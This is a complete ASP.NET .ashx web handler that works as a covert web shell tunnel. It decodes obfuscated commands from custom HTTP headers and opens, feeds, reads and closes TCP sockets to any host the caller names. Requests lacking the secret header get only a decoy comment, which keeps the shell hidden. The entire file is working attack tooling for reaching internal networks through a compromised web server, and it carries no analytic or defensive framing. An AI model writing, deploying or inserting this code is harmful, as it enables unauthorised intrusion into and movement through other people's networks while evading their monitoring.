<%@ WebHandler Language="C#" Class="NeoHandler" %>
using System;
using System.Web;
using System.Web.SessionState;
using System.Net;
using System.Net.Sockets;
using System.Collections.Generic;

public class NeoHandler : IHttpHandler, IRequiresSessionState
{
    // custom base64 alphabet (shuffled) shared with client
    static readonly string EN = "Tq0vWZ1cP8mK3aXbRjNf7YsL9hUe2oGd+ApFMyIkB5ExwtH4lCSJrgnQV6Dz/iuO";
    static readonly string DE = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

    static string Dec(string s)
    {
        char[] o = new char[s.Length];
        for (int i = 0; i < s.Length; i++) { int k = EN.IndexOf(s[i]); o[i] = k < 0 ? s[i] : DE[k]; }
        return new string(o);
    }
    static string Enc(string s)
    {
        char[] o = new char[s.Length];
        for (int i = 0; i < s.Length; i++) { int k = DE.IndexOf(s[i]); o[i] = k < 0 ? s[i] : EN[k]; }
        return new string(o);
    }

    public bool IsReusable { get { return false; } }

    public void ProcessRequest(HttpContext ctx)
    {
        HttpRequest req = ctx.Request; HttpResponse rsp = ctx.Response;
        rsp.StatusCode = 200;
        string mark = req.Headers["Ffydjt"];           // per-build random header names
        if (req.HttpMethod != "POST" || mark == null)
        {
            rsp.Write("<!-- 9f2c0e1b -->");
            return;
        }
        string cmd = System.Text.Encoding.ASCII.GetString(Convert.FromBase64String(Dec(mark)));
        string sid = "s_" + req.Headers["Ibyewh"];
        try
        {
            if (cmd.StartsWith("CONNECT:"))
            {
                string[] t = cmd.Substring(8).Split('|');
                Socket so = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
                so.Connect(new IPEndPoint(Dns.GetHostAddresses(t[0])[0], int.Parse(t[1])));
                so.Blocking = false;
                ctx.Application[sid] = so;
                rsp.AddHeader("Qlvwem", Enc("T0s="));
            }
            else if (cmd == "FORWARD")
            {
                Socket so = (Socket)ctx.Application[sid];
                byte[] body = Convert.FromBase64String(Dec(new System.IO.StreamReader(req.InputStream).ReadToEnd()));
                so.Send(body);
                rsp.AddHeader("Qlvwem", Enc("T0s="));
            }
            else if (cmd == "READ")
            {
                Socket so = (Socket)ctx.Application[sid];
                List<byte> acc = new List<byte>();
                byte[] buf = new byte[65535];
                try { int n; while ((n = so.Receive(buf)) > 0) { for (int i = 0; i < n; i++) acc.Add(buf[i]); } }
                catch (SocketException) { }
                rsp.Write(Enc(Convert.ToBase64String(acc.ToArray())));
                rsp.AddHeader("Qlvwem", Enc("T0s="));
            }
            else if (cmd == "DISCONNECT")
            {
                Socket so = (Socket)ctx.Application[sid];
                if (so != null) so.Close();
                ctx.Application.Remove(sid);
            }
        }
        catch (Exception e)
        {
            rsp.AddHeader("Qlvwem", Enc(Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(e.Message))));
        }
    }
}
